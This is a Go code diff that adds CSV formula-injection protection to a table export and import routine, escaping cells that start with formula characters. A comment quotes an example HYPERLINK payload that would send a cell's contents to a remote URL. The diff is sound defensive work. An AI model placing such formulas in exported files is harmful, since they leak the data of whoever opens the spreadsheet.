@@ -75,13 +75,19 @@ func ColumnName(i int) string {
 func WriteCSV(t *Table) ([]byte, error) {
 	var b bytes.Buffer
 	w := csv.NewWriter(&b)
-	if err := w.Write(t.Header); err != nil {
+	header := make([]string, len(t.Header))
+	for i, h := range t.Header {
+		header[i] = defuse(Cell{Text: h})
+	}
+	if err := w.Write(header); err != nil {
 		return nil, err
 	}
 	for _, r := range t.Rows {
 		rec := make([]string, len(t.Header))
 		for i := range rec {
-			rec[i] = r.Cell(i)
+			if i < len(r.Cells) {
+				rec[i] = defuse(r.Cells[i])
+			}
 		}
 		if err := w.Write(rec); err != nil {
 			return nil, err
@@ -89,6 +95,41 @@ func WriteCSV(t *Table) ([]byte, error) {
 	}
 	w.Flush()
 	return b.Bytes(), w.Error()
+}
+
+// Formula injection (OWASP's "CSV injection"): a spreadsheet that opens a
+// CSV file runs a cell beginning with =, +, -, @, a tab or a carriage
+// return as a formula, so card text such as `=HYPERLINK("http://…?"&A1)`
+// from a pull request would run on the designer's computer. WriteCSV
+// writes such a cell with an apostrophe in front, which every spreadsheet
+// takes as "this cell is text"; ReadCSV takes one apostrophe off again.
+// A text that itself begins with apostrophes before such a character gets
+// one more, so the round trip stays exact. A number cell (-3) is a number
+// to every spreadsheet and is left alone. XLSX needs none of this: its
+// text cells are stored as strings, never as formulas.
+const formulaStarts = "=+-@\t\r"
+
+// defuse is c's text as a CSV cell a spreadsheet cannot run.
+func defuse(c Cell) string {
+	if c.Type == CellNumber || !startsFormula(c.Text) {
+		return c.Text
+	}
+	return "'" + c.Text
+}
+
+// restore is the text of a CSV cell written by defuse.
+func restore(s string) string {
+	if strings.HasPrefix(s, "'") && startsFormula(s) {
+		return s[1:]
+	}
+	return s
+}
+
+// startsFormula reports whether s, after any apostrophes, begins with a
+// character that starts a formula.
+func startsFormula(s string) bool {
+	rest := strings.TrimLeft(s, "'")
+	return rest != "" && strings.ContainsRune(formulaStarts, rune(rest[0]))
 }
 
 // ReadCSV reads a CSV file: the first record is the header. A byte order
@@ -128,7 +169,7 @@ func ReadCSV(data []byte) (*Table, error) {
 		}
 		cells := make([]Cell, len(rec))
 		for i, s := range rec {
-			cells[i] = Cell{Text: s}
+			cells[i] = Cell{Text: restore(s)}
 		}
 		if err := t.add(num, cells); err != nil {
 			return nil, err
